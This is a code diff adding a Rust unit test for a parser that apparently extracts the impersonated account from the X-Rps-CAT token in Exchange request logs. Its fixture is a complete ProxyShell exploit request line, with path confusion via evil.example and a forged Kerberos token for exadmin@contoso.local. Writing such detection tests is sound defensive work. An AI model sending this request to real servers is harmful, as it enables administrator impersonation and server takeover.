@@ -703,3 +703,16 @@ fn a_stub_left_half_way_is_cleaned_by_rollback() {
     assert_eq!(r.notes.len(), 1, "{:?}", r.notes);
     assert_eq!(snapshot(&fx.target), before);
 }
+
+#[test]
+fn the_impersonated_account_is_read_from_the_rps_cat_token() {
+    // The token of the ProxyShell example: Kerberos logon of exadmin@contoso.local.
+    let line = "POST /autodiscover/autodiscover.json @evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdleGFkbWluQGNvbnRvc28ubG9jYWw&Email=autodiscover/autodiscover.json%3F@evil.example 443";
+    assert_eq!(
+        crate::plan::rps_cat_account(line).as_deref(),
+        Some("exadmin@contoso.local")
+    );
+    assert_eq!(crate::plan::rps_cat_account("X-Rps-CAT=!!!"), None);
+    assert_eq!(crate::plan::rps_cat_account("X-Rps-CAT=TP8"), None);
+    assert_eq!(crate::plan::rps_cat_account("no token"), None);
+}
